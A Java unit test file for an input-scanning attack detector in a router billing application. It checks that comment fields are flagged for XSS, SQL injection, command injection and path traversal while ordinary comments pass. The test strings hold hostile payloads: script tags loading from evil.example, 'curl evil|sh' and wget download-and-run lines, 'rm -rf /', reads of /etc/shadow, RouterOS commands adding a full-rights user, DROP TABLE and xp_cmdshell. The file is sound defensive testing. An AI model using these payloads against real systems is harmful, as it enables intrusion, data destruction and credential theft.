package io.mikrobill.validation;

import static org.assertj.core.api.Assertions.assertThat;

import io.mikrobill.validation.SecurityFinding.Kind;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AttackDetectorTest {

  private final AttackDetector detector = new AttackDetector(true, true);

  private List<Kind> kinds(String value) {
    return detector.scan("comment", value).stream().map(SecurityFinding::kind).toList();
  }

  @ParameterizedTest
  @ValueSource(strings = {"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js>", "< script >",
      "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "<a href=\"javascript:x\">",
      "<img src=x onerror=alert(1)>", "<IMG SRC=x OnError=alert(1)>", "<body onload=alert(1)>",
      "<svg/onload=alert(1)>", "\" onmouseover=\"alert(1)", "<iframe src=//evil>", "<iframe>",
      "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "&lt;script&gt;alert(1)", "&#60;script&#62;",
      "&#x3C;script&#x3E;", "&LT;script&GT;", "<scr\0ipt>", "data:text/html;base64,PHNjcmlwdD4="})
  void shouldDetectXss(String payload) {
    assertThat(kinds(payload)).as(payload).contains(Kind.XSS);
  }

  @ParameterizedTest
  @ValueSource(strings = {"' OR '1'='1", "' or 1=1--", "admin'--", "x'; DROP TABLE users; --", "1; drop table vouchers",
      "1 UNION SELECT password FROM users", "1 union all select null", "1 UNION/**/SELECT 1", "a /* hidden */ b",
      "'; exec xp_cmdshell 'dir'", "xp_cmdshell", "1' AND 'a'='a", "x' or sleep(5)#", "1 or 1=1",
      "%27%20OR%20%271%27%3D%271", "1;delete from users", "'; waitfor delay '0:0:5'--"})
  void shouldDetectSqlInjection(String payload) {
    assertThat(kinds(payload)).as(payload).contains(Kind.SQL_INJECTION);
  }

  @ParameterizedTest
  @ValueSource(strings = {"$(reboot)", "x $(curl evil|sh)", "`id`", "name; rm -rf /", "a;wget http://evil/x",
      "ok && reboot", "a || curl evil", "x | sh", "x|bash -i", "comment\n/system reset-configuration",
      "c\r\n/user add name=evil group=full", "a\n:put [/system identity get name]", "a; /ip service enable telnet",
      "%0a/system/reboot", "${IFS}", "a; cat /etc/shadow"})
  void shouldDetectCommandInjection(String payload) {
    assertThat(kinds(payload)).as(payload).contains(Kind.COMMAND_INJECTION);
  }

  @ParameterizedTest
  @ValueSource(strings = {"../../etc/passwd", "..\\..\\windows", "%2e%2e%2fsecret", "%2E%2E/x", "..%2f..%2fx",
      "%252e%252e%252f", "/etc/passwd", "/etc/shadow", "C:\\Windows\\system.ini", "files/..", "/proc/self/environ"})
  void shouldDetectPathTraversal(String payload) {
    assertThat(kinds(payload)).as(payload).contains(Kind.PATH_TRAVERSAL);
  }

  @ParameterizedTest
  @ValueSource(strings = {"Room 3 - O'Brien", "price 5/month", "a & b", "alice@example.com", "Tom's router",
      "50% off until 31/12", "10M/2M plan, 3 devices", "Call +1 (555) 010-9999", "VIP; pays cash",
      "upgrade: 20M | monthly", "O'Neil's shop #4", "path: main/branch", "use 1..5 ports", "x = y + 2",
      "online=yes", "scripted backup", "select plan: gold", "drop by office", "Union Street 5", "a -- b",
      "2 < 3 and 5 > 4", "one/two/three", "C:\\data is fine?", "semi; colon", "R&D dept", "ping me at 10:30",
      "Müller, Zürich", "café-bar", "line one\nline two"})
  void shouldNotFlagOrdinaryComments(String comment) {
    assertThat(detector.scan("comment", comment)).as(comment).isEmpty();
  }

  @Test
  void shouldFollowTheXssAndSqlSwitchesButAlwaysCheckCommandsAndPaths() {
    AttackDetector off = new AttackDetector(false, false);
    assertThat(off.scan("comment", "<script>alert(1)</script>")).isEmpty();
    assertThat(off.scan("comment", "' OR '1'='1")).isEmpty();
    assertThat(off.scan("comment", "$(reboot)")).extracting(SecurityFinding::kind).containsExactly(Kind.COMMAND_INJECTION);
    assertThat(off.scan("comment", "../../etc/passwd")).extracting(SecurityFinding::kind).containsExactly(Kind.PATH_TRAVERSAL);
    assertThat(new AttackDetector(false, true).scan("c", "<script>' OR '1'='1")).extracting(SecurityFinding::kind)
        .containsExactly(Kind.SQL_INJECTION);
    assertThat(new AttackDetector(true, false).scan("c", "<script>' OR '1'='1")).extracting(SecurityFinding::kind)
        .containsExactly(Kind.XSS);
  }

  @Test
  void shouldReportEachKindOnceWithTheFieldAndAShortEscapedDetail() {
    String payload = "<script>" + "A".repeat(500) + "</script>\n/system reboot ../../etc/passwd";
    List<SecurityFinding> findings = detector.scan("comment", payload);
    assertThat(findings).extracting(SecurityFinding::kind)
        .containsExactlyInAnyOrder(Kind.XSS, Kind.COMMAND_INJECTION, Kind.PATH_TRAVERSAL);
    assertThat(findings).allSatisfy(f -> {
      assertThat(f.field()).isEqualTo("comment");
      assertThat(f.detail()).hasSizeLessThanOrEqualTo(96).doesNotContain("\n").doesNotContain("A".repeat(40));
    });
    assertThat(findings.stream().filter(f -> f.kind() == Kind.COMMAND_INJECTION).findFirst().orElseThrow().detail())
        .contains("\\n/system");
  }

  @Test
  void shouldSayWhenThePayloadWasEncoded() {
    assertThat(detector.scan("comment", "%3Cscript%3E")).singleElement()
        .satisfies(f -> assertThat(f.detail()).contains("(encoded)").contains("<script>"));
  }

  @Test
  void shouldUseTheStableWireNames() {
    assertThat(List.of(Kind.values())).extracting(Kind::wireName)
        .containsExactly("xss", "sql-injection", "command-injection", "path-traversal");
  }
}
